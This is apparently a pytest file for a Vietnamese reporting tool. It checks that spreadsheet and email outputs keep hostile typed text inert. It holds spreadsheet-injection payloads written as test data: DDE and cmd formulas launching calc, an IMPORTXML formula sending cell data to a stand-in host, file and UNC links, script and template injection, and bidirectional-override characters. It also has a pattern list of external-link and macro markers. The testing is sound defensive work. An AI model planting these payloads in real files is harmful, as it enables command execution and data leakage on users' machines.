"""What units type stays text in everything that leaves the program: no formula, no link, no broken file."""

from __future__ import annotations

import email
import io
import json
import re
import unicodedata
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from email import policy
from email.message import EmailMessage
from functools import cache
from pathlib import Path
from unittest.mock import patch
from xml.sax.saxutils import escape

import docx
import pytest
from msgspec.structs import replace
from openxml_audit import OpenXmlValidator
from python_calamine import CalamineWorkbook

from aggregator.book.create import launcher_files
from aggregator.judge.compare import compare, province_of
from aggregator.nouns.document import Row, Sheet
from aggregator.nouns.outcome import Outcome
from aggregator.run import CampaignFolder, deliver, deliver_briefing, deliver_letters, open_desk
from aggregator.vietnamese.fold import CELL_LIMIT
from aggregator.write.blank import write_blank_forms
from aggregator.write.blank_words import file_stem, models_of
from aggregator.write.comparison import comparison_workbook
from aggregator.write.province import provincial_workbook
from aggregator.write.result import result_of
from tests.book.books import fresh
from tests.read.test_ods import cell as ods_cell
from tests.read.test_ods import ods
from tests.read.test_ods import row as ods_row
from tests.sheets import CAMPAIGN, InlineGuard, rows, run_over, workbook
from tests.soffice import converted, needs_office
from tests.trust.trial import workplace
from tests.write.masters import opened

LONG = "dài " * 8_000
CONTROLS = "Mô hình\x0bhai\x1f\x00"  # in the sender's own workbook as its program wrote them
TEXTS = (
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://x.vn","bấm")', "+1+cmd|'/C calc'!A0", "-2+cmd|'/C calc'!A0",
    "@SUM(A1)", "\t=1+a", '=IMPORTXML(CONCAT("http://x.vn/?",A1),"//a")', "{=2+1}", '=DDE("cmd";"/C calc";"a")',
    "'=1+b", "http://x.vn/?a=1&b=2", "mailto:a@x.vn", "file:///c:/windows/system.ini", "\\\\x.vn\\share\\a",
    "internal:'Tổng quan'!A1", "_x0041_ và _x000D_", "<script>alert(1)</script>", "a & b < c > d \" '", "]]> a",
    "&lt;b&gt;", "{{ 7*7 }} a", "{% raw %}", "%s %(a)s {0}", "Mô hình \u202egnurt\u202c", "Mô hình \u200f\u2067ẩn",
    "Trồng hoa 😀", CONTROLS, "Trồng e\u0302\u0301", "MERGEFIELD a \\* MERGEFORMAT", LONG,
)  # fmt: skip
UNITS = ("cao-xa", "dai-hoa")
HOSTILE_FILE = "=1+1 & <b> 'x' {{ y }} _x0041_ \u202excod.xlsx"


@dataclass(frozen=True)
class Made:
    """Everything that a run wrote: name → bytes."""

    files: Mapping[str, bytes]

    def of(self, ending: str) -> dict[str, bytes]:
        return {name: data for name, data in self.files.items() if name.endswith(ending)}


def listed(unit: str, texts: tuple[str, ...]) -> tuple[Row, ...]:
    """A list in which every text is once a model's name, address, goals and holder; it has much to be mended."""
    head = "| STT | Địa chỉ | Tên mô hình | Tập thể hoặc cá nhân | Mục tiêu | Cấp đăng ký | Duy trì |"
    marks = ("x", None)  # every second model has no mode: its cell is marked, and the letter says so
    lines = [Row(9 + n, (n, text, text, text, text, "Cấp tỉnh", marks[n % 2])) for n, text in enumerate(texts, 1)]
    return (*rows(f"Đơn vị: {unit}\n\n{head}\nI. Lĩnh vực kinh tế"), *lines)


def returned(texts: tuple[str, ...]) -> bytes:
    """The list as a workbook, on a sheet of a hostile name."""
    return workbook(Sheet("=1+1 & _x0041_", listed("Xã Cao Xá", texts)))


def in_open_document(texts: tuple[str, ...]) -> bytes:
    """The same of another unit as an .ods, which comes back as a workbook made of it."""
    cells = [["" if cell is None else str(cell) for cell in row.cells] for row in listed("Xã Đại Hóa", texts)]
    lines = (ods_row(*(ods_cell(escape(plain(text))) for text in line)) for line in cells)
    return ods(f'<table:table table:name="=1+1 &amp; a">{"".join(lines)}</table:table>')


@cache
def made(hostile: bool) -> Made:
    """What comes of an inbox of hostile texts; or of the same with harmless ones."""
    texts = TEXTS if hostile else tuple(f"Mô hình số {n}" for n in range(len(TEXTS)))
    name = HOSTILE_FILE if hostile else "M3.xlsx"
    with workplace() as place:
        book = fresh(place)
        files = {name: returned(texts), f"{name}.pdf": b"x", f"{name}.ods": in_open_document(texts)}
        outcome = run_over(place / "in", files, book=book)
        before = result_of(run_over(place / "before", {"M3.xlsx": returned(("A",))}))
        desk = open_desk(book, CAMPAIGN, outcome.as_of)
        result = result_of(outcome)
        deliver(outcome, place / "tong_hop.xlsx", place / "ket_qua.json", book, frozen=True, keep=desk.keep)
        deliver_briefing(outcome, place / "bao_cao.docx", book, desk.keep)
        (place / "so_sanh.xlsx").write_bytes(comparison_workbook(compare(before, result), outcome))
        province = province_of([result], outcome.campaign)
        (place / "tinh.xlsx").write_bytes(provincial_workbook(province))
        few = replace(CAMPAIGN, units=tuple(CAMPAIGN.units_by_code[code] for code in UNITS))
        write_blank_forms(few, place / "mau", True, models=models_of(result, few))
        folder = CampaignFolder(place / "in", book, CAMPAIGN, CAMPAIGN)
        with patch("aggregator.read.pool.Guard", InlineGuard):
            deliver_letters(outcome, desk, folder, place / "thu_gui")
        return Made(dict(_collected(place, outcome)))


def _collected(place: Path, outcome: Outcome) -> Iterator[tuple[str, bytes]]:
    """What lies there; letters, blank forms and attached copies of the units that sent something."""
    yield from ((path.name, path.read_bytes()) for path in place.iterdir() if path.is_file())
    for code in UNITS:
        unit = outcome.campaign.unit_name(code)
        (letter,) = (place / "thu_gui").glob(f"thu_sua_{file_stem(unit)}*.eml")
        yield f"{code}.eml", letter.read_bytes()
        (copy,) = email.message_from_bytes(letter.read_bytes(), policy=policy.default).iter_attachments()
        yield f"{code} copy.xlsx", copy.get_content()
        for path in (place / "mau").rglob(f"*{file_stem(unit)}*/M3*.xlsx"):
            yield f"{code} blank.xlsx", path.read_bytes()
    yield "danh_sach_thu.xlsx", (place / "thu_gui" / "danh_sach_thu.xlsx").read_bytes()


def parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {n: package.read(n).decode("utf-8") for n in package.namelist() if n.endswith((".xml", ".rels"))}


COPIES = ("cao-xa copy.xlsx", "dai-hoa copy.xlsx", "cao-xa blank.xlsx", "dai-hoa blank.xlsx", "danh_sach_thu.xlsx")
WORKBOOKS = ("tong_hop.xlsx", "so_theo_doi.xlsx", "so_sanh.xlsx", "tinh.xlsx", *COPIES)
LETTERS = ("cao-xa.eml", "dai-hoa.eml")
OUTSIDE = re.compile(
    r'TargetMode="External"|externalLink|ddeLink|oleObject|<w:instrText|w:fldSimple|attachedTemplate|vbaProject'
)


@pytest.mark.parametrize("name", [*WORKBOOKS, "bao_cao.docx"])
def test_nothing_typed_became_a_link_a_field_or_an_object(name: str) -> None:
    found = {part: sorted(set(OUTSIDE.findall(xml))) for part, xml in parts(made(True).files[name]).items()}
    harmless = {part: sorted(set(OUTSIDE.findall(xml))) for part, xml in parts(made(False).files[name]).items()}
    assert {part: marks for part, marks in found.items() if marks} == {p: m for p, m in harmless.items() if m}


@pytest.mark.parametrize("name", WORKBOOKS)
def test_no_formula_holds_anything_typed(name: str) -> None:
    formulas = [f for xml in parts(made(True).files[name]).values() for f in re.findall(r"<f[ >][^<]*", xml)]
    words = ("cmd", "HYPERLINK", "DDE", "IMPORTXML", ">1+1", "x.vn", "A1)")
    assert [formula for formula in formulas if any(word in formula for word in words)] == []


@pytest.mark.parametrize("name", [*WORKBOOKS, "bao_cao.docx"])
def test_the_file_is_valid(name: str, tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_bytes(made(True).files[name])
    assert [str(error) for error in OpenXmlValidator().validate(path).errors] == []


@cache
def shown(data: bytes) -> set[str]:
    """The texts of a workbook's cells as a program reads them."""
    texts = [cell.value for sheet in opened(data) for line in sheet.iter_rows() for cell in line]
    # what Excel does everywhere, and openpyxl for some texts only
    return {re.sub("_x005F_(?=x[0-9A-F]{4}_)", "_", text) for text in texts if isinstance(text, str)}


def plain(text: str) -> str:
    """What is left of a text: control characters are blanks, blanks at the ends are none, letters are composed."""
    text = re.sub(r"[\x00-\x1f\u202a-\u202e\u2066-\u2069\u200e\u200f]", " ", unicodedata.normalize("NFC", text))
    return " ".join(text.split())


@pytest.mark.parametrize("name", ["tong_hop.xlsx", "so_theo_doi.xlsx"])
def test_every_text_stands_there_as_it_was_typed(name: str) -> None:
    found = {plain(text) for text in shown(made(True).files[name])}
    assert [text for text in TEXTS if text != LONG and plain(text) not in found] == []


@needs_office
def test_libreoffice_opens_every_file_and_shows_the_same_texts_and_no_more_formulas(tmp_path: Path) -> None:
    paths = [tmp_path / f"{number} {name}" for number, name in enumerate(WORKBOOKS)]
    for path, name in zip(paths, WORKBOOKS, strict=True):
        path.write_bytes(made(True).files[name])
    (tmp_path / "opened").mkdir()
    for path, name in zip(converted(paths, "xlsx", tmp_path / "opened"), WORKBOOKS, strict=True):
        before, after = shown(made(True).files[name]), shown(path.read_bytes())
        assert sum(text.startswith("=") for text in after) <= sum(text.startswith("=") for text in before), name
        lost = {plain(text) for text in before & set(TEXTS) - {LONG}} - {plain(text) for text in after}
        assert not lost, name


def test_what_looks_like_excels_escapes_is_what_was_typed() -> None:
    """Calamine decodes them as Excel does; the tracking book is read by it."""
    for name in (*WORKBOOKS[:2], *COPIES[:2]):
        book = CalamineWorkbook.from_filelike(io.BytesIO(made(True).files[name]))
        sheets = [book.get_sheet_by_name(title).to_python() for title in book.sheet_names]
        texts = {cell for sheet in sheets for line in sheet for cell in line}
        assert "_x0041_ và _x000D_" in texts, name
        assert "A và \r" not in texts, name


def test_a_text_that_fills_a_cell_stays_within_it() -> None:
    texts = shown(made(True).files["tong_hop.xlsx"])
    assert max(map(len, texts)) <= CELL_LIMIT
    assert plain(LONG) in {plain(text) for text in texts}


@pytest.mark.parametrize("name", LETTERS)
def test_a_letter_has_its_own_heads_and_one_harmless_file(name: str) -> None:
    hostile, harmless = (letter(name, hostile=hostile) for hostile in (True, False))
    assert hostile.keys() == harmless.keys()
    assert (hostile["To"], hostile["Subject"]) == (harmless["To"], harmless["Subject"])
    (copy,) = hostile.iter_attachments()
    assert re.fullmatch(r"[\w. =+&'{}()\[\]-]+\.xlsx", str(copy.get_filename())), copy.get_filename()


def letter(name: str, *, hostile: bool) -> EmailMessage:
    return email.message_from_bytes(made(hostile).files[name], policy=policy.default)


@pytest.mark.parametrize("name", LETTERS)
def test_a_letter_is_plain_text_that_fills_no_template_and_turns_nothing_round(name: str) -> None:
    (body,) = (part for part in letter(name, hostile=True).walk() if part.get_content_maintype() == "text")
    assert body.get_content_type() == "text/plain"
    text = body.get_content()
    assert not re.search("[\u202a-\u202e\u2066-\u2069\x00-\x08\x0b-\x1f]", text.replace("\r\n", "\n"))
    assert "49 a" not in text


@pytest.mark.parametrize("name", ["cao-xa blank.xlsx", "dai-hoa blank.xlsx"])
def test_models_that_go_on_stand_in_next_years_blank_form_as_text(name: str) -> None:
    found = {plain(text) for text in shown(made(True).files[name])}
    assert [text for text in TEXTS[1::2] if text != LONG and plain(text) not in found] == []


@pytest.mark.parametrize("name", ["cao-xa copy.xlsx", "dai-hoa copy.xlsx"])
def test_a_copy_that_goes_back_holds_what_was_typed_and_notes_beside_it(name: str) -> None:
    found = {plain(text) for text in shown(made(True).files[name])}
    assert [text for text in TEXTS if text not in (LONG, CONTROLS) and plain(text) not in found] == []
    comments = [xml for part, xml in parts(made(True).files[name]).items() if "comments" in part]
    assert comments


def test_the_files_to_double_click_hold_nothing_but_the_program_and_its_commands() -> None:
    """Whatever the folder of the program is called, no line of theirs runs anything else."""
    program = "C:\\a & calc\\%PATH%\\^b (1)!\\python.exe"
    usual, hostile = (dict(launcher_files(path, "win32")) for path in ("C:\\python.exe", program))
    for name, data in hostile.items():
        assert data.decode() == usual[name].decode().replace("C:\\python.exe", program.replace("%", "%%"))
        lines = [line for line in data.decode().split("\r\n") if "calc" in line]
        assert all(re.search(r'"C:\\a & calc[^"]*"|^echo ', line) for line in lines), lines


def test_the_result_names_everything_and_the_report_is_readable() -> None:
    result = json.loads(made(True).files["ket_qua.json"])
    assert len(result["entries"]) == 2 * len(TEXTS)
    assert all(item["file"].endswith((".xlsx", ".pdf", ".ods")) for item in result["submissions"])
    assert docx.Document(io.BytesIO(made(True).files["bao_cao.docx"])).paragraphs


def test_no_text_turns_round_what_stands_beside_it() -> None:
    """Characters that turn the direction of writing do not come from a file's name into any output."""
    for name in WORKBOOKS:
        assert not [text for text in shown(made(True).files[name]) if "\u202excod" in text]
